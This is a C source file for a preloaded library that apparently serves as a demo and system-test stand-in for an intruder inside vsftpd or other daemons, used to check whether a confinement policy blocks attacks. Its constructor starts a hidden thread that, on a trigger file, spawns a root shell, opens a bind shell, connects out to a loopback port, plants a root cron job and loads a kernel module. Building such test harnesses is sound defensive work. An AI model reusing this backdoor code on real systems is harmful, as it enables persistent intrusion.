// SPDX-License-Identifier: GPL-2.0
/*
 * The demo's stand-in for an exploit: preloaded into vsftpd, it runs a
 * thread inside the daemon that, when /run/attack holds a new command,
 * does what the intruder of the FTP incident did with their root shell -
 * spawn a shell, open a bind shell, connect out, plant a cron job, load a
 * module - and writes each outcome to /run/attack.log ("rootkit" in the
 * command adds the module steps).  The log is opened when the daemon
 * starts, as an exploit's channel back would be; a daemon confined from
 * its first instruction may not open it, and with DEMO_BACKDOOR_SYSLOG=1
 * in its environment the outcomes go to syslog instead ("intruder"), over
 * the /dev/log its profile allows.  It only ever touches loopback
 * addresses.
 *
 * The system tests plant it in other daemons too: DEMO_BACKDOOR_IN names
 * the program to live in (a substring of its path, default vsftpd),
 * DEMO_BACKDOOR_TRIGGER the command file (default /run/attack),
 * DEMO_BACKDOOR_TAG the syslog tag (default intruder),
 * DEMO_BACKDOOR_MODULE the module file the rootkit step loads, and
 * DEMO_BACKDOOR_FORKS keeps it in the daemon's forked children.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

/* The channel back, opened before any policy is loaded. */
static int log_fd = -1;

static const char *setting(const char *name, const char *fallback)
{
	const char *v = getenv(name);

	return v && *v ? v : fallback;
}

static int plant_cron_job(void)
{
	int fd = open("/etc/cron.d/backdoor", O_WRONLY | O_CREAT | O_CLOEXEC,
		      0644);
	static const char job[] = "* * * * * root /bin/sh -c 'id > /run/pwned'\n";
	int ret;

	if (fd < 0)
		return -1;
	ret = write(fd, job, sizeof(job) - 1) < 0 ? -1 : 0;
	close(fd);
	return ret;
}

static void note(FILE *log, const char *what, int ret)
{
	fprintf(log, "  %-48s %s\n", what,
		ret < 0 ? strerror(errno) : "succeeded");
}

static int spawn_shell(void)
{
	int pfd[2], err = 0, status;
	pid_t pid;

	if (pipe2(pfd, O_CLOEXEC))
		return -1;
	pid = fork();
	if (pid == 0) {
		char *argv[] = { "sh", "-c", "id > /run/pwned", NULL };

		execv("/bin/sh", argv);
		err = errno;
		if (write(pfd[1], &err, sizeof(err)) < 0)
			_exit(2);
		_exit(1);
	}
	close(pfd[1]);
	if (read(pfd[0], &err, sizeof(err)) != sizeof(err))
		err = 0;
	close(pfd[0]);
	waitpid(pid, &status, 0);
	errno = err;
	return err ? -1 : 0;
}

static int tcp(const char *ip, int port, int bind_it)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_port = htons(port) };
	int fd = socket(AF_INET, SOCK_STREAM, 0), ret, one = 1;

	if (fd < 0)
		return -1;
	inet_pton(AF_INET, ip, &sin.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind_it) {
		ret = bind(fd, (struct sockaddr *)&sin, sizeof(sin));
		if (!ret)
			ret = listen(fd, 1);
	} else {
		ret = connect(fd, (struct sockaddr *)&sin, sizeof(sin));
	}
	if (ret < 0) {
		int e = errno;

		close(fd);
		errno = e;
		return -1;
	}
	close(fd);
	return 0;
}

/* The report, line by line, to syslog. */
static void to_syslog(char *report)
{
	char *line, *save = NULL;

	openlog(setting("DEMO_BACKDOOR_TAG", "intruder"), LOG_NDELAY,
		LOG_USER);
	for (line = strtok_r(report, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save))
		syslog(LOG_WARNING, "%s", line);
	closelog();
}

static void attack(int rootkit)
{
	char *report = NULL;
	size_t size = 0;
	int via_syslog = getenv("DEMO_BACKDOOR_SYSLOG") != NULL;
	int fd = via_syslog ? -1 : dup(log_fd);
	FILE *log = via_syslog ? open_memstream(&report, &size) :
		    fd < 0 ? NULL : fdopen(fd, "a");

	if (!log)
		return;
	fprintf(log, "intruder inside %s (pid %d, uid %d):\n",
		program_invocation_short_name, getpid(), getuid());
	note(log, "exec /bin/sh (a root shell)", spawn_shell());
	note(log, "bind shell on port 6200", tcp("0.0.0.0", 6200, 1));
	note(log, "connect out to 127.0.0.2:4444 (its server)",
	     tcp("127.0.0.2", 4444, 0));
	note(log, "plant a root cron job (/etc/cron.d/backdoor)",
	     plant_cron_job());
	if (!rootkit) {
		fprintf(log, "done\n");
		fclose(log);
		if (via_syslog)
			to_syslog(report);
		free(report);
		return;
	}
	fd = open(setting("DEMO_BACKDOOR_MODULE", "/lib/modules/dmzguard.ko"),
		  O_RDONLY | O_CLOEXEC);
	note(log, "load a kernel module (the rootkit)",
	     fd < 0 ? -1 : (int)syscall(SYS_finit_module, fd, "", 0));
	if (fd >= 0)
		close(fd);
	note(log, "unload dmzguard",
	     (int)syscall(SYS_delete_module, "dmzguard", O_NONBLOCK));
	fprintf(log, "done\n");
	fclose(log);
	if (via_syslog)
		to_syslog(report);
	free(report);
}

/* The last command run: a forked child inherits it and does not rerun it. */
static char last[32];

/* Each new command in the trigger ("N basic", "N rootkit") runs once. */
static void *watch(void *arg)
{
	const char *trigger = arg;

	for (;;) {
		char buf[32] = "";
		FILE *f = fopen(trigger, "r");

		if (f) {
			if (!fgets(buf, sizeof(buf), f))
				buf[0] = '\0';
			fclose(f);
			if (buf[0] && strcmp(buf, last)) {
				memcpy(last, buf, sizeof(last));
				attack(strstr(buf, "rootkit") != NULL);
			}
		}
		usleep(100000);
	}
	return NULL;
}

static void start_watching(void)
{
	pthread_t t;

	if (!pthread_create(&t, NULL, watch,
			    (void *)setting("DEMO_BACKDOOR_TRIGGER",
					    "/run/attack")))
		pthread_detach(t);
}

__attribute__((constructor)) static void plant(void)
{

	/* Only in the daemon itself, not in programs it might run. */
	if (!strstr(program_invocation_name,
		    setting("DEMO_BACKDOOR_IN", "vsftpd")))
		return;
	/* Reporting through syslog, it has no file to open. */
	if (!getenv("DEMO_BACKDOOR_SYSLOG"))
		log_fd = open("/run/attack.log", O_WRONLY | O_CREAT |
			      O_APPEND | O_CLOEXEC, 0600);
	start_watching();
	/*
	 * A thread does not survive fork(): with DEMO_BACKDOOR_FORKS set,
	 * the children watch too, so the intruder stays in a daemon that
	 * forks itself into the background (nginx) and in its workers.
	 */
	if (getenv("DEMO_BACKDOOR_FORKS"))
		pthread_atfork(NULL, NULL, start_watching);
}
